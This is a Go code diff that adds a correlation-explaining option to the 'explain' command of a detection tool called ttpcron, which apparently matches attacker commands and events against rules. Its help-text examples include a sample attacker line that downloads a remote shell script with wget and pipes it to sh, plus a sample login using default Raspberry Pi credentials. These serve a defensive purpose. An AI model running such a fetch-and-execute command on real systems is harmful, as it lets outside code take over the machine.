@@ -23,6 +23,8 @@ func explainCommand() *command {
 	fs := cli.NewFlags()
 	asJSON := fs.Bool("json", false, "print one JSON object")
 	tag := fs.String("tag", "", "explain the stored tag with this `UUID` instead of a command")
+	var about correlationQuestion
+	about.define(fs)
 	event := fs.Bool("event", false, "the argument is an event of any kind: in the native JSON form, or the id of a stored one")
 	return &command{
 		Name: "explain", Args: "COMMAND", Short: "show which rules match a command, and why", Flags: fs, Unstored: true,
@@ -34,6 +36,13 @@ one, the states of its rules are applied.
 --tag shows what a stored tag came of: its event, the rule and version that made
 it, which test of the rule saw what, and whether the rule as it is now would make
 it, or why not. ttpcron tags --uuid shows the UUIDs, and --json those of all tags.
+Of a tag of a correlation, a rule over several events, it lists the events that
+counted, in the order of time, with what was reached at each.
+
+--correlation says how far a group came in such a rule, when it came closest, and
+what was missing. The group is that with the value of --group, an address or a
+user name or whatever the rule groups by; where several fit, they are listed.
+Rules are taken as their files have them, whatever their state.
 
 --event judges a login, a file, a tunnel or any other event. The id of a stored
 one is its source_id, which tags --json and export-events show; the days of the
@@ -41,10 +50,24 @@ history are searched for it, the newest first.`,
 		Examples: `ttpcron explain "cd /tmp; wget http://203.0.113.9/x.sh -O- | sh"
 echo 'cat /proc/cpuinfo' | ttpcron explain -
 ttpcron explain --tag 9aa491e5-f03b-5d8f-9eb5-161becedcdd6
+ttpcron explain --correlation TC0001 --group 203.0.113.7 --group username=root
 ttpcron explain --event sha256:3f1c26fb9c3e9d0a51d1a2f7f0a1c5be
 ttpcron explain --event '{"source_kind":"auth_attempt","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"username":"pi","password":"raspberry","success":true}}'`,
 		Exits: []int{exitFailed, exitLocked, exitInterrupted},
 		Run: func(ctx context.Context, s *session, args []string) error {
+			if err := about.misused(); err != nil {
+				return err
+			}
+			if about.rule != "" {
+				if *tag != "" || *event {
+					return cli.Usagef("--correlation takes no --tag and no --event")
+				}
+				if err := cli.NoArgs(args); err != nil {
+					return err
+				}
+				about.json = *asJSON
+				return explainCorrelation(ctx, s, &about)
+			}
 			if *tag != "" {
 				if err := cli.NoArgs(args); err != nil {
 					return err
